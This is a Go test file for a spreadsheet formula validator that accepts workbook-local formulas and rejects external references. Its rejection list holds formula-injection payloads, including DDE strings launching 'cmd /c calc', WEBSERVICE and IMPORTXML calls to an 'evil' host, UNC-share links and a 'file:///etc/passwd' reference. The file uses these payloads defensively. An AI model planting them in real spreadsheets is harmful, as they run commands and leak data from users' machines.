package outcome

import "testing"

func TestFormulasThatReadOnlyTheirWorkbook(t *testing.T) {
	plain := &formulaRules{sheets: map[string]bool{"orders": true, "flight 1": true, "订单": true, "a|b": true, "it's": true},
		gone: map[string]bool{"outside": true}, names: map[string]bool{"rate": true}}
	macros := *plain
	macros.noMacros = true
	pivots := *plain
	pivots.noPivots = true
	for _, formula := range []string{
		"", "A1", "1+1", "SUM(A1:B2)", "$A$1*2", "orders!A1", "'Flight 1'!$B$2", "'it''s'!A1", "订单!A1", "ORDERS!A1", "orders:订单!A1",
		"'orders:Flight 1'!A1", `IF(A1="x","yes ""[1]x""|","no")`, "Table1[Qty]", "Table1[[#This Row],[Qty]]",
		"SUM(Table1[[#Totals],[a '] b]])",
		"[0]!Rate", "'[0]orders'!A1", "#REF!", "#REF!A1", "IFERROR(#N/A,#DIV/0!)", "{1,2;3,4}", "A1:B2 B1:C2", "@A1", "-A1%", "A1#",
		"rate*2",
		"_xlfn.XLOOKUP(A1,B:B,C:C)", "_xlfn.LET(_xlpm.x,1,_xlpm.x)", `HYPERLINK("https://carrier.example/"&A1)`, `INDIRECT("A"&1)`,
		"MyMacro(A1)", "'a|b'!A1", "Table1[@Qty]", "[@Qty]*2", "SUM([Qty])", "VLOOKUP(A1,'Flight 1'!A:C,2,0)", "GETPIVOTDATA(\"x\",A1)",
		`TEXT(A1,"[h]:mm")`, `TEXT(A1,"yyyy\年")`,
	} {
		if !plain.allows(formula) {
			t.Errorf("%s: not allowed", formula)
		}
	}
	for _, formula := range []string{
		"[1]orders!A1", "'[1]Flight 1'!A1", "[1]!Name", "'[book.xlsx]orders'!A1", `'C:\dir\[book.xlsx]orders'!A1`,
		"[book.xlsx]orders!A1",
		`'\\evil\share\[b.xlsx]orders'!A1`, "'http://evil/[b.xlsx]orders'!A1", `'\\evil\share\b.xlsx'!Name`, "book.xlsx!Name",
		"cmd|'/c calc'!A0", "cmd|' /C calc'!A0", "A1+cmd|x!y", "'cmd|/c calc'!A0",
		"MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!A0",
		`DDE("cmd","/c calc","A0")`, `dde ("cmd";"x";"y")`, `WEBSERVICE("http://evil/"&A1)`, `_xlfn.WEBSERVICE("http://evil")`,
		"_xlfn._xlws.PY(1)", `_xlfn.IMAGE("http://evil")`, `RTD("x",,"y")`, `CALL("urlmon","x","JJCCJJ",0)`, `REGISTER.ID("a","b")`,
		"_xll.Foo(1)", `CUBEVALUE("ThisWorkbookDataModel","x")`, "Missing!A1", "'file:///etc/passwd'#$Sheet1.A1", "outside*2",
		"OUTSIDE(1)",
		`INDIRECT("'[b.xlsx]orders'!A1")`, `INDIRECT("'\\evil\s\"&A1)`, `INDIRECT("'http:"&"//evil/")`, "'unclosed", `"unclosed`,
		"[unclosed",
		"[1]'x'!A1", "com.microsoft.WEBSERVICE(1)", "SUM(A1,[2]x!B2)", "orders:Missing!A1", "PERSONAL.XLSB!Macro()",
		`IMPORTXML("http://evil","//a")`, "_xlfn.TRANSLATE(A1)",
	} {
		if plain.allows(formula) {
			t.Errorf("%s: allowed", formula)
		}
	}
	for formula, want := range map[string]bool{"SUM(A1)": true, "MyMacro(A1)": false, "Rate(1)": true, "_xlfn.NEWER(1)": true,
		"_xludf.x(1)": true, "_xlfn.LAMBDA(_xlpm.f,_xlpm.f(1))": true} {
		if macros.allows(formula) != want {
			t.Errorf("without macros, %s: %v", formula, !want)
		}
	}
	if pivots.allows(`GETPIVOTDATA("x",A1)`) {
		t.Error("GETPIVOTDATA without pivot tables")
	}
}

func FuzzFormulaRules(f *testing.F) {
	for _, formula := range []string{"[1]a!b", "'a'!b", `"x"`, "[", "'", `"`, "[[]", "['", "#", "a(", "é[1]"} {
		f.Add(formula)
	}
	rules := &formulaRules{}
	f.Fuzz(func(t *testing.T, formula string) { rules.allows(formula) })
}
